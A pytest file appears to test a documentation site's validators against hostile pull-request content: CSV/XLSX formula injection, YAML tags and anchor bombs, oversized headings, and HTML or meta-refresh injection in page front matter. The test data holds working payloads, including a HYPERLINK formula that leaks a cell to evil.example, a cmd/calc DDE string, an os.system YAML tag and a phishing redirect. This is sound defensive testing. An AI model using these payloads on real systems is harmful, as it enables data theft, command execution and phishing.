"""Hostile sources (issue 18): every form a pull request can use to get a formula into the
downloads, a surprise out of YAML, a slow path into the checks or a raw quote into the theme ends
in a message naming the file, the line and the fix, never a traceback. Each case is a table row
against the kb function the check lives in."""

from __future__ import annotations

import io
import zipfile

import openpyxl
import pytest

from kb import exports
from kb.knowledge import load_knowledge

from fixture_data import data, edit, problems  # noqa: F401  (data is a fixture)

DEFINITION = "    definition: Acts committed with intent to destroy a group. A second sentence.\n"
ORG_DESCRIPTION = "    description: Supports local peacebuilders.\n"


# --- (d) formulas in the CSV and XLSX downloads ----------------------------------------------
FORMULA_CASES = [
    # (file, fixture line to replace, replacement, line of the message, words of the message)
    ("glossary.yml", DEFINITION,
     """    definition: '=HYPERLINK("http"&":"&"//evil.example/?leak="&ENCODEURL(B3),"Read")'\n""", 6, "formula"),
    ("organizations.yml", ORG_DESCRIPTION, """    description: '=WEBSERVICE("x")'\n""", 7, "formula"),
    ("glossary.yml", DEFINITION, "    definition: '@SUM(1+1)*cmd'\n", 6, "formula"),
    ("glossary.yml", DEFINITION, """    definition: '+HYPERLINK("x","y")'\n""", 6, "formula"),
    ("glossary.yml", DEFINITION, """    definition: '-2+HYPERLINK("x","y")'\n""", 6, "formula"),
    ("glossary.yml", DEFINITION, """    definition: "+cmd|' /C calc'!A0"\n""", 6, "formula"),
    ("glossary.yml", DEFINITION, '    definition: "  =1+1"\n', 6, "formula"),        # spaces are stripped first
    ("glossary.yml", DEFINITION, '    definition: "Acts\\tcommitted with intent."\n', 6, "tab"),
    ("glossary.yml", DEFINITION, '    definition: "Acts\\rcommitted with intent."\n', 6, "more than one line"),
    ("glossary.yml", "    term: genocide\n", "    term: '=genocide'\n", 5, "formula"),
]


@pytest.mark.parametrize("name, old, new, line, words", FORMULA_CASES)
def test_a_formula_in_a_data_text_is_refused_with_file_line_and_fix(data, name, old, new, line, words):
    edit(data, name, old, new)
    [problem] = problems(data)
    assert (problem.file, problem.line) == (f"data/{name}", line)
    assert words in problem.message and problem.fix


@pytest.mark.parametrize("text", ["+Peace", "+Peace coalition", "+Paz", "-minus sign then words (a note)",
                                  "+Peace (a coalition)", "Fees of +5% were paid"])
def test_a_name_that_begins_with_a_sign_stays_valid(data, text):
    edit(data, "organizations.yml", "    name: Peace Direct\n", f"    name: \"{text}\"\n")
    assert load_knowledge(data).organizations


def test_every_xlsx_text_cell_is_text_even_when_it_begins_like_a_formula():
    """Read back: no <f> element in the sheet, every value text, the formula-like ones quote-prefixed."""
    cells = ['=HYPERLINK("http"&":"&"//evil.example","Read")', "+Peace", "@SUM(A1)", "-1", "plain"]
    data = exports.to_xlsx({"t": (["a"], [[c] for c in cells])}, [["version", "v"]], "2026-01-01T00:00:00+00:00")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert not any("<f>" in archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/"))
    sheet = openpyxl.load_workbook(io.BytesIO(data))["t"]
    read = [(c.value, c.data_type, c.quotePrefix) for (c,) in sheet.iter_rows(min_row=2)]
    assert read == [(c, "s", c[0] in "=+-@") for c in cells]


# --- (c) headings and titles a pull request can make very long -----------------------------
PAGE = "---\ndescription: A page.\n---\n\n# A page { #a-page }\n\n"
LONG_HEADINGS = [
    # (the Markdown after the front matter and H1, the words of the message)
    ("## Hashes {" + "#" * 6_000, "characters long; a heading has at most"),
    ("## Hashes {" + "#" * 20_000 + "}", "characters long; a heading has at most"),
    ("## " + "a " * 10_000 + "{ #long }", "characters long; a heading has at most"),
    ("## Hashes {" + "#" * 250, "has no explicit id"),
    ("## Words" + " " * 20_000 + "more", "characters long; a heading has at most"),
    ("# " + "A" * 30_000, "characters long; a title has at most"),
]


@pytest.mark.parametrize("markdown, words", LONG_HEADINGS, ids=lambda v: repr(v[:16]))
def test_a_very_long_heading_ends_in_one_short_message(markdown, words):
    from kb.page_checks import check_headings, check_heading_ids
    found = check_headings(PAGE + markdown + "\n", "docs/about.md") + check_heading_ids(PAGE + markdown + "\n", "docs/about.md")
    [problem] = found
    assert (problem.file, problem.line) == ("docs/about.md", 7)
    assert words in problem.message and problem.fix
    assert len(problem.message) < 200 and len(problem.fix) < 200      # the heading is quoted cut, not whole


@pytest.mark.parametrize("heading, expected", [
    ("Title { #the-id }", "the-id"), ("Title {#the-id}", "the-id"), ("Title { .wide #the-id }", "the-id"),
    ("Title { #first #second }", "second"), ("Title {: #the-id }", "the-id"), ("Title { #the-id }  ", "the-id"),
    ("Title", None), ("Title { .wide }", None), ("Title { # }", None), ("Title { #the-id } more", None),
    ("Hashes {" + "#" * 6_000, None),
], ids=lambda v: repr(v)[:24])
def test_the_explicit_id_is_read_from_the_attribute_list_at_the_end(heading, expected):
    from kb.page_checks import explicit_id
    assert explicit_id(heading) == expected


@pytest.mark.parametrize("title", ["A" * 30_000, "word " * 6_000, "Supercalifragilistic" * 40 + " end"],
                         ids=["30000-letters", "6000-words", "long-word-then-one"])
def test_a_card_title_too_long_to_fit_is_cut_with_an_ellipsis_within_the_card(title):
    from kb.cards import CARD_WIDTH, FONT, MARGIN, MAX_TITLE_LINES, _fit_title
    width = CARD_WIDTH - 2 * MARGIN
    font, lines = _fit_title(title, FONT, width)
    assert len(lines) <= MAX_TITLE_LINES and lines[-1].endswith(" …")
    assert font.getlength(lines[-1]) <= width and title.startswith(lines[0].removesuffix(" …"))


# --- (b) YAML without surprises: tags, anchors, merge keys, depth, size ----------------------
BOMB = "".join(f"    l{i}: &l{i} [" + ", ".join([f"*l{i - 1}"] * 9) + "]\n" for i in range(1, 10))
YAML_CASES = [
    # (replacement of the fixture's English definition line, line of the message, words, words of the fix)
    ("    definition: !!binary QWN0cyBjb21taXR0ZWQgd2l0aCBpbnRlbnQu\n", 6, "explicit YAML tag (!!binary)", "remove the tag"),
    ("    definition: !!str Acts committed.\n", 6, "explicit YAML tag (!!str)", "remove the tag"),
    ("    definition: !custom Acts committed.\n", 6, "explicit YAML tag (!custom)", "remove the tag"),
    ("    definition: !!python/object/apply:os.system [echo]\n", 6, "explicit YAML tag", "remove the tag"),
    ("    definition: Acts.\n    variants: !!set {war crime: null, war crimes: null}\n", 7, "explicit YAML tag (!!set)",
     "remove the tag"),
    ("    definition: &d Acts committed.\n    note: *d\n", 6, "anchor (&d)", "write the value out in full"),
    ("    definition: Acts.\n    l0: &l0 [x]\n" + BOMB, 7, "anchor (&l0)", "no anchors"),
    ("    definition: Acts.\n    note: " + "[" * 3_000 + "x" + "]" * 3_000 + "\n", 7, "nested more than", "flat list"),
    ("    definition: Acts.\n    note: " + "[" * 100_000 + "\n", 7, "nested more than", "flat list"),   # crashed libyaml
    ("    definition: Acts.\n    note:\n" + "".join("      " + "- " * 30 + "x\n" for _ in range(1)), 8, "nested more than",
     "flat list"),
    ("    definition: " + "Acts committed. " * 330_000 + "\n", 6, "a text field holds at most 5,000", "shorten it"),
]


@pytest.mark.parametrize("new, line, words, fix", YAML_CASES, ids=lambda v: repr(v[:30]) if isinstance(v, str) else v)
def test_yaml_beyond_plain_fields_is_refused_with_file_line_and_fix(data, new, line, words, fix):
    edit(data, "glossary.yml", DEFINITION, new)
    [problem] = problems(data)
    assert (problem.file, problem.line) == ("data/glossary.yml", line)
    assert words in problem.message and fix in problem.fix
    assert len(problem.message) < 300                      # the 5 MB text is not echoed


def test_a_merge_key_is_refused_by_name_not_as_a_key_written_twice(data):
    edit(data, "glossary.yml", "  en:\n    term: genocide\n", "  en: &genocide_en\n    term: genocide\n")
    edit(data, "glossary.yml", "  en:\n    term: atrocity crimes\n", "  en:\n    <<: *genocide_en\n    term: atrocity crimes\n")
    found = problems(data)
    assert any("anchor (&genocide_en)" in p.message for p in found) and not any("twice" in p.message for p in found)
    from kb.yamlsource import load_yaml_text
    [problem] = load_yaml_text("base: {a: 1}\nentry:\n  <<: {a: 2}\n  b: 3\n", "data/x.yml").problems
    assert (problem.line, "merge key (<<)" in problem.message) == (3, True) and "write the fields out" in problem.fix


def test_a_name_too_long_is_refused_with_its_length(data):
    edit(data, "glossary.yml", "    term: genocide\n", "    term: " + "genocide " * 40 + "\n")
    [problem] = problems(data)
    assert (problem.line, "a name holds at most 300" in problem.message) == (5, True)


FRONT_MATTER_YAML = [
    # (the front matter's lines, line of the message, words)
    ("description: A page.\ntitle: &a [x]\n", 3, "anchor (&a)"),
    ("description: A page.\ntitle: &l0 [x]\n" + BOMB.replace("    ", ""), 3, "anchor (&l0)"),      # 10^9 leaves
    ("description: A page.\ntitle: " + "[" * 3_000 + "]" * 3_000 + "\n", 3, "nested more than"),
    ("description: !!binary QWN0cyBjb21taXR0ZWQu\n", 2, "explicit YAML tag (!!binary)"),
]


@pytest.mark.parametrize("meta, line, words", FRONT_MATTER_YAML, ids=lambda v: repr(v[:30]) if isinstance(v, str) else v)
def test_front_matter_yaml_beyond_plain_fields_is_refused_before_mkdocs_reads_it(meta, line, words):
    from kb.front_matter import check_front_matter, unreadable_front_matter
    from kb.pages import split_front_matter
    text = f"---\n{meta}---\n\n# A page {{ #a-page }}\n"
    [problem] = check_front_matter(text, "docs/about.md")
    assert (problem.file, problem.line) == ("docs/about.md", line) and words in problem.message and problem.fix
    assert unreadable_front_matter({"about.md": text}) == [problem]      # the build stops before MkDocs reads it
    assert split_front_matter(text)[0] == {}


# --- (a) front matter, typed: the keys Material's templates test or print ---------------------
FRONT_MATTER_KEYS = [
    # (lines after the description, line of the message, words of the message, words of the fix)
    ("hide: yes\n", 3, "'hide' should be a list of the parts to hide (feedback, footer, navigation, path, tags, toc), not yes",
     "hide: [toc]"),
    ("hide: toc\n", 3, "'hide' should be a list", "hide: [toc]"),
    ("hide: [sidebar]\n", 3, "'hide' names 'sidebar'", "feedback, footer, navigation, path, tags, toc"),
    ("search: [exclude]\n", 3, "'search' should be a mapping of exclude, boost", "search: {exclude: true}"),
    ("search: {exclude: 'yes'}\n", 3, "'search: exclude' should be true or false", "search: {exclude: true}"),
    ("search: {hidden: true}\n", 3, "'search' has the key 'hidden'", "exclude, boost"),
    ("title: 'About</title><style>html{display:none}</style><title>x'\n", 3, "the title contains '<'", "words instead of < or >"),
    ("title: [About]\n", 3, "the title should be text", "double quotes"),
    ("title: " + "About " * 50 + "\n", 3, "the title is 299 characters long; a title has at most 200", "shorten it"),
    ('translation_of: 12345\n', 3, "'translation_of' should be the fingerprint", "make stamp FILES=docs/about.md"),
]


@pytest.mark.parametrize("lines, line, words, fix", FRONT_MATTER_KEYS, ids=lambda v: repr(v[:24]) if isinstance(v, str) else v)
def test_a_front_matter_key_of_the_wrong_type_is_refused_with_the_allowed_values(lines, line, words, fix):
    from kb.front_matter import check_front_matter
    [problem] = check_front_matter(f"---\ndescription: A page.\n{lines}---\n\n# A page {{ #a-page }}\n", "docs/about.md")
    assert (problem.file, problem.line) == ("docs/about.md", line)
    assert words in problem.message and fix in problem.fix


def test_a_description_that_would_add_a_refresh_to_the_meta_tag_is_refused():
    from kb.front_matter import check_front_matter
    text = "---\ndescription: '0;url=https://evil.example/phish\" http-equiv=\"refresh'\n---\n# A page\n"
    [problem] = check_front_matter(text, "docs/about.es.md")
    assert (problem.line, "the description contains '\"'" in problem.message) == (2, True)
    assert "typographic quotes" in problem.fix


def test_the_typed_front_matter_of_a_real_page():
    from pathlib import Path
    from kb.front_matter import read_front_matter
    root = Path(__file__).resolve().parents[2]
    meta, problems = read_front_matter((root / "docs" / "print.md").read_text(encoding="utf-8"), "docs/print.md")
    assert problems == [] and meta.search_exclude and meta.hide == ("navigation", "toc") and meta.description
    meta, problems = read_front_matter((root / "docs" / "about.es.md").read_text(encoding="utf-8"), "docs/about.es.md")
    assert problems == [] and len(meta.translation_of) == 10 and meta.lines["description"] == 2


@pytest.mark.parametrize("meta", [
    {"description": '0;url=https://evil.example/phish" http-equiv="refresh', "title": "About</title><style>html{display:none}</style>"},
    {"description": "Why </script><!-- the center", "author": '"><base href="https://evil.example/">', "title": "A & B > C"},
], ids=["refresh-and-style", "script-and-base"])
def test_the_theme_prints_the_front_matter_title_and_description_as_text(meta):
    """What kb/front_matter.py would refuse, rendered anyway through overrides/main.html's blocks:
    the text stays text (one meta tag, no refresh, no <style> or <base>, the title as written)."""
    from bs4 import BeautifulSoup
    from mkdocs.theme import Theme

    root = __import__("pathlib").Path(__file__).resolve().parents[2]
    template = Theme(name="material", custom_dir=str(root / "overrides")).get_env().get_template("main.html")
    page = type("Page", (), {"meta": meta, "title": "About", "is_homepage": False, "canonical_url": None,
                             "previous_page": None, "next_page": None, "url": "about/"})()
    context = template.new_context({"page": page, "base_url": "..", "mkdocs_version": "1.6.1", "kb_share_tags": "",
                                    "config": {"site_name": "KB", "extra": {}, "plugins": {}, "theme": {"favicon": "x.png"}}})
    head = BeautifulSoup("".join(template.blocks["site_meta"](context)) + "".join(template.blocks["htmltitle"](context)),
                         "html.parser")
    assert [m["content"] for m in head.find_all("meta", attrs={"name": "description"})] == [meta["description"]]
    assert not head.find_all(attrs={"http-equiv": True}) and not head.find_all(["style", "base", "script"])
    assert head.title.string == f"{meta['title']} - KB"
    if "author" in meta:
        assert head.find("meta", attrs={"name": "author"})["content"] == meta["author"]
